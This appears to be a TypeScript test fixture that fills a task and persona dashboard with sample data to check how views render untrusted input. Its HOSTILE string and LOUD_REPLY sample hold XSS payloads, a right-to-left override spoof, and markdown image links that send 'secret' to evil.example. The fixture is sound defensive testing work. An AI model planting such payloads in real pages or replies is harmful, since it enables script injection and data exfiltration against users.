import type { Stand } from "./stand.harness.ts";

/** What a program may write into a request to be taken for something else: markup, addresses, turned text, great length. */
export const HOSTILE = [
  "<script>document.title='taken'</script><img src=https://evil.example/a.png onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "javascript:alert(1)",
  "\u202eeteled ot drawrof\u202c",
  "![x](https://evil.example/?d=secret)",
  "W".repeat(300),
].join(" ");

/** A reply with everything that could lead elsewhere. */
export const LOUD_REPLY = `# Here is what I found

![a chart](https://evil.example/?d=secret) and <img src="https://evil.example/b.png">

| Name | Cost |
| --- | ---: |
| [a page](https://example.com/a) | 1 |

- [bad](javascript:alert(1))
- \`code\`

\`\`\`
${"x".repeat(200)}
\`\`\`
`;

/** One of everything that a view can show. */
export async function fill({ as, task }: Stand): Promise<void> {
  await task("waits-1");
  await task("waits-hostile", { description: HOSTILE, operations: ["data_deletion"] });
  await task("runs", { type: "code", description: "Implement the search box", estimatedCost: 5.5 });
  await task("ended", { type: "code", description: "Write the release notes", estimatedCost: 2 });
  await as("agency", "POST", "/api/tasks/ended/finish", { actualCost: 1.25, outcome: "succeeded" });
  await task("stopped", { type: "code", description: "Sort the inbox", estimatedCost: 1 });
  await as("personal", "POST", "/api/halt", { taskId: "stopped", reason: "not today" });
  await task("denied", { description: "Delete the production DB" });
  await fillPersonas(as);
}

const SOURCE_MAX_CHARS = 500;

/** A persona with a schedule, what was published to it, and what it did. */
async function fillPersonas(as: Stand["as"]): Promise<void> {
  const { id: personaId } = await as("admin", "POST", "/api/personas", {
    name: "Code Reviewer",
    description: HOSTILE,
    systemPrompt: "Review what comes.",
    maxBudgetUsd: 0.05,
  });
  await as("admin", "POST", "/api/personas", { name: "Builder", enabled: false, runsOn: "worker" });
  await as("admin", "POST", "/api/subscriptions", { personaId, eventType: "review" });
  const schedule = { cron: "every 30d", event_type: "review", payload: { scope: HOSTILE } };
  const config = JSON.stringify(schedule);
  const trigger = await as("admin", "POST", "/api/triggers", { personaId, triggerType: "schedule", config });
  await as("admin", "POST", `/api/triggers/${String(trigger.id)}/fire`, {});
  const sourceId = HOSTILE.slice(0, SOURCE_MAX_CHARS);
  await as("admin", "POST", "/api/events", { eventType: "nobody_listens", sourceType: "manual", sourceId });
}
